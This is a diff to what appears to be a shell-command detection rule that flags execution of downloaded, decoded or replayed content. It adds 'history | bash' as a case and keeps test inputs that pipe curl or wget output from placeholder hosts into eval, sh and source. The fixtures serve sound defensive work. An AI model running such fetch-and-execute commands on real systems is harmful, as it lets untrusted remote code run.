@@ -40,6 +40,7 @@ function describe(source: DataSource): string | null {
     case 'output':
       if (DOWNLOADERS.has(source.program)) return `content fetched by ${source.program}`;
       if (DECODERS.has(source.program)) return `content decoded by ${source.program}`;
+      if (source.program === 'history' || source.program === 'fc') return 'replayed shell history';
       return null;
     default:
       return null;
@@ -78,6 +79,7 @@ export default defineRule({
       { input: 'eval "$(curl -s https://x.example/env)"' },
       { input: 'sh -c "$(wget -O- https://x.example/install.sh)"' },
       { input: 'source <(curl -s https://x.example/env.sh)' },
+      { input: 'history | bash' },
     ],
     allow: [
       { input: 'curl -fsSL https://example.com/data.json | jq .', why: 'the download is parsed as data' },
